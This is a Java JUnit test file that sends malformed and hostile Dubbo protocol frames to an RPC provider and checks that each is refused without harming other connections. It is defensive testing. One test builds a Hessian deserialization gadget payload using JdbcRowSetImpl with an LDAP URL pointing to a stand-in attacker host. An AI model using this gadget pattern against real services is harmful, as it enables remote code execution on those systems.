package io.kestrel.rpc.interop.dubbo;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.kestrel.rpc.api.RpcContext;
import io.kestrel.rpc.api.config.ProtocolConfig;
import io.kestrel.rpc.api.config.ServerLimits;
import io.kestrel.rpc.api.config.ServiceConfig;
import io.kestrel.rpc.core.RpcRuntime;
import io.kestrel.rpc.interop.dubbo.api.Greeter;
import io.kestrel.rpc.interop.dubbo.api.GreetingService;
import java.time.Duration;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * Hostile dubbo frames against a Kestrel provider's dubbo port: each gets a clear answer or closes only its own
 * connection, and a stock Dubbo consumer on another connection keeps working throughout.
 */
@Timeout(value = 120, unit = TimeUnit.SECONDS)
class HostileDubboFramesTest {
    private static final String SERVICE = GreetingService.class.getName();
    private static final int PAYLOAD = 64 * 1024;
    private static RpcRuntime provider;
    private static Greeter greeter;
    private static DubboSide dubbo;
    private static GreetingService bystander;

    @BeforeAll
    static void start() {
        provider = RpcRuntime.builder().protocol(ProtocolConfig.builder().name("dubbo").host(DubboSide.HOST).port(0)
                .payloadBytes(PAYLOAD).limits(ServerLimits.builder().frameTimeout(Duration.ofMillis(500)).build())
                .build()).build();
        greeter = new Greeter("kestrel", k -> RpcContext.current().getAttachment(k),
                (k, v) -> RpcContext.current().setResponseAttachment(k, v));
        provider.export(ServiceConfig.builder(GreetingService.class, (GreetingService) greeter).build());
        dubbo = DubboSide.start("bystander");
        bystander = dubbo.refer(GreetingService.class, "dubbo://" + DubboSide.HOST + ":" + provider.boundPort(), 5000);
    }

    @AfterAll
    static void stop() {
        if (dubbo != null) {
            dubbo.close();
        }
        if (provider != null) {
            provider.close();
        }
    }

    @AfterEach
    void othersAreFine() {
        assertEquals("hello still from kestrel", bystander.hello("still"));
    }

    private static RawDubbo connect() throws Exception {
        return new RawDubbo(DubboSide.HOST, provider.boundPort());
    }

    @Test
    void aWellFormedRawRequestIsAnswered() throws Exception {
        try (RawDubbo raw = connect()) {
            raw.send(RawDubbo.request(1, 2, RawDubbo.body(SERVICE, "hello", "Ljava/lang/String;", Map.of(), "raw")));
            RawDubbo.Response r = raw.read();
            assertEquals(20, r.status());
            assertEquals(1, r.id());
            assertEquals(2, r.flags()); // a response, hessian2
            assertTrue(r.text().contains("hello raw from kestrel"), r.text());
        }
    }

    @Test
    void heartbeatRequestsAreAnsweredWithAHeartbeatEvent() throws Exception {
        try (RawDubbo raw = connect()) {
            raw.send(RawDubbo.concat(RawDubbo.header(0x80 | 0x40 | 0x20 | 2, 0, 77, 1), new byte[] {'N'}));
            RawDubbo.Response r = raw.read();
            assertEquals(0x20 | 2, r.flags());
            assertEquals(20, r.status());
            assertEquals(77, r.id());
            assertArrayEquals(new byte[] {'N'}, r.body());
        }
    }

    @Test
    void badMagicClosesTheConnection() throws Exception {
        try (RawDubbo raw = connect()) {
            raw.send(new byte[] {'G', 'E', 'T', ' ', '/', ' ', 'H', 'T', 'T', 'P', '/', '1', '.', '1', '\r', '\n'});
            assertTrue(raw.closedByPeer());
        }
    }

    @Test
    void aHugeLengthIsRefusedFromTheHeaderWithoutReadingTheBody() throws Exception {
        try (RawDubbo raw = connect()) {
            raw.send(RawDubbo.header(0x80 | 0x40 | 2, 0, 5, 1 << 30));
            RawDubbo.Response r = raw.read();
            assertEquals(40, r.status());
            assertEquals(5, r.id());
            assertTrue(r.text().contains("exceeds the payload limit of " + PAYLOAD + " bytes"), r.text());
        }
        assertTrue(provider.inspect().snapshot().server().memoryInUseBytes() < PAYLOAD, "nothing was allocated for the claimed body");
    }

    @Test
    void aPartialHeaderClosesTheConnectionAfterTheFrameTimeout() throws Exception {
        try (RawDubbo raw = connect()) {
            raw.send(new byte[] {(byte) 0xda, (byte) 0xbb, (byte) 0xc2, 0, 0});
            assertTrue(raw.closedByPeer(), "closed within the socket timeout (frame-timeout is 500 ms)");
        }
    }

    @Test
    void anUnknownSerializationIdIsRefusedNamingWhatIsSpoken() throws Exception {
        int before = greeter.calls.get();
        try (RawDubbo raw = connect()) {
            // Dubbo's java (3): not spoken on the dubbo protocol here
            raw.send(RawDubbo.request(3, 3, RawDubbo.body(SERVICE, "hello", "Ljava/lang/String;", Map.of(), "x")));
            RawDubbo.Response r = raw.read();
            assertEquals(40, r.status());
            assertTrue(r.text().contains("serialization id 3") && r.text().contains("hessian2")
                    && r.text().contains("fastjson2"), r.text());
        }
        assertEquals(before, greeter.calls.get(), "the method did not run");
    }

    /** Dubbo's fastjson2 (23) is spoken, but this service was exported with hessian2 only: pinning refuses it. */
    @Test
    void aHessian2OnlyServiceRefusesFastjson2() throws Exception {
        int before = greeter.calls.get();
        try (RawDubbo raw = connect()) {
            raw.send(RawDubbo.request(23, RawFastjson2.ID, RawFastjson2.body(SERVICE, "hello", "Ljava/lang/String;",
                    Map.of(), RawFastjson2.value("x"))));
            RawDubbo.Response r = raw.read();
            assertEquals(40, r.status());
            assertTrue(r.text().contains("was not exported with serialization fastjson2"), r.text());
        }
        assertEquals(before, greeter.calls.get(), "the method did not run");
    }

    @Test
    void aGadgetClassInTheArgumentsIsRefusedBeforeItIsLoaded() throws Exception {
        int before = greeter.calls.get();
        try (RawDubbo raw = connect()) {
            byte[] body = RawDubbo.body(out -> {
                out.writeMapBegin("com.sun.rowset.JdbcRowSetImpl");
                out.writeString("dataSourceName");
                out.writeString("ldap://attacker.example/x");
                out.writeMapEnd();
            }, SERVICE, "hello", "Ljava/lang/String;", Map.of());
            raw.send(RawDubbo.request(9, 2, body));
            RawDubbo.Response r = raw.read();
            assertEquals(40, r.status());
            assertTrue(r.text().contains("com.sun.rowset.JdbcRowSetImpl"), r.text());
        }
        assertEquals(before, greeter.calls.get(), "the method did not run");
    }

    @Test
    void anUnknownServiceOrMethodIsAnsweredServiceNotFound() throws Exception {
        try (RawDubbo raw = connect()) {
            raw.send(RawDubbo.request(11, 2, RawDubbo.body("com.example.Missing", "hello", "Ljava/lang/String;",
                    Map.of(), "x")));
            RawDubbo.Response r = raw.read();
            assertEquals(60, r.status());
            assertTrue(r.text().contains("com.example.Missing"), r.text());
            raw.send(RawDubbo.request(12, 2, RawDubbo.body(SERVICE, "hello", "I", Map.of(), 1)));
            r = raw.read();
            assertEquals(60, r.status());
            assertTrue(r.text().contains("hello(int)"), r.text());
        }
    }

    @Test
    void aTruncatedBodyIsABadRequestAndTheConnectionStaysUsable() throws Exception {
        try (RawDubbo raw = connect()) {
            byte[] good = RawDubbo.body(SERVICE, "hello", "Ljava/lang/String;", Map.of(), "abc");
            byte[] cut = java.util.Arrays.copyOf(good, 40); // the head only, arguments cut off
            raw.send(RawDubbo.request(13, 2, cut));
            RawDubbo.Response r = raw.read();
            assertEquals(40, r.status());
            raw.send(RawDubbo.request(14, 2, good));
            assertEquals(20, raw.read().status());
        }
    }

    /** Generic invocation is a kestrel-port feature: on the dubbo port $invoke and $metadata are refused by name. */
    @Test
    void genericCallsAndMetadataAreRefusedOnTheDubboPort() throws Exception {
        int before = greeter.calls.get();
        try (RawDubbo raw = connect()) {
            raw.send(RawDubbo.request(15, 2, RawDubbo.body(SERVICE, "$invoke",
                    "Ljava/lang/String;[Ljava/lang/String;[Ljava/lang/Object;", Map.of("generic", "true"), "hello",
                    new String[] {"java.lang.String"}, new Object[] {"x"})));
            RawDubbo.Response r = raw.read();
            assertEquals(60, r.status());
            assertTrue(r.text().contains(SERVICE + "#$invoke is not available on the dubbo protocol: generic invocation"
                    + " ($invoke) and metadata ($metadata) are answered on the provider's kestrel protocol port only"),
                    r.text());
            raw.send(RawDubbo.request(16, 2, RawDubbo.body(SERVICE, "$metadata", "", Map.of())));
            r = raw.read();
            assertEquals(60, r.status());
            assertTrue(r.text().contains(SERVICE + "#$metadata is not available on the dubbo protocol"), r.text());
        }
        org.apache.dubbo.rpc.service.GenericService stock = dubbo.referGeneric(SERVICE, "dubbo://" + DubboSide.HOST
                + ":" + provider.boundPort(), 5000);
        Exception e = org.junit.jupiter.api.Assertions.assertThrows(Exception.class,
                () -> stock.$invoke("hello", new String[] {"java.lang.String"}, new Object[] {"x"}));
        assertTrue(String.valueOf(e.getMessage()).contains("is not available on the dubbo protocol"), e.toString());
        assertEquals(before, greeter.calls.get(), "the method did not run");
    }
}
